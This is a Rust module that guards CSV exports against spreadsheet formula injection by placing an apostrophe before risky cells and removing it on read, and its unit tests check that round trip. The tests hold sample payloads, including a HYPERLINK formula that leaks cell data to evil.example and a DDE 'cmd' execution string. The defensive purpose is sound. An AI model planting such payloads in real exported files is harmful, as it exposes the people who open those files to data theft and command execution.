//! Cells that spreadsheet programs would run as formulas (CSV injection): the export writes a
//! cell beginning with `=`, `+`, `-`, `@`, a tab or a carriage return behind an apostrophe, as
//! OWASP advises, so Excel and LibreOffice show it as text; the table reader takes the
//! apostrophe off again, so an export opens as the same events.

use std::borrow::Cow;

/// The first characters that make a spreadsheet program read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `cell` as it is safe to write: behind an apostrophe when it would start a formula. A plain
/// number (`-33.86`, a longitude) is no formula and stays a number. A cell already written
/// with an apostrophe before a formula character gets another, so reading gives it back.
pub fn protect(cell: &str) -> Cow<'_, str> {
    if starts_formula(cell.trim_start_matches('\'')) && !is_plain_number(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// The text [`protect`] was given for the written `cell`.
pub fn unprotect(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if starts_formula(rest.trim_start_matches('\'')) => rest,
        _ => cell,
    }
}

fn starts_formula(text: &str) -> bool {
    text.starts_with(FORMULA_STARTS)
}

/// An optional minus, digits, and at most one decimal point between digits.
fn is_plain_number(cell: &str) -> bool {
    let digits = cell.strip_prefix('-').unwrap_or(cell);
    let mut parts = digits.splitn(2, '.');
    let whole = parts.next().unwrap_or("");
    let fraction = parts.next();
    let all_digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    all_digits(whole) && fraction.is_none_or(all_digits)
}

#[cfg(test)]
mod tests {
    use super::*;

    const HOSTILE: [&str; 8] = [
        "=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3",
        "\t=1+1",
        "\r=1+1",
        "'=already guarded by hand",
        "''+twice",
    ];

    #[test]
    fn every_formula_start_is_written_behind_an_apostrophe_and_read_back() {
        for cell in HOSTILE {
            let written = protect(cell);
            assert!(written.starts_with('\''), "{cell:?} -> {written:?}");
            assert_eq!(unprotect(&written), cell);
        }
    }

    #[test]
    fn text_and_numbers_are_written_as_they_are() {
        for cell in [
            "Strasbourg",
            "-33.86",
            "151.2",
            "-7",
            "2024-05-26",
            "'quoted'",
            "",
        ] {
            assert_eq!(protect(cell), cell);
            assert_eq!(unprotect(cell), cell);
        }
        // Not numbers, so guarded: a formula may hide behind a minus.
        for cell in ["-1-1", "-.5", "-", "-1.2.3"] {
            assert_eq!(protect(cell), format!("'{cell}"));
        }
    }
}
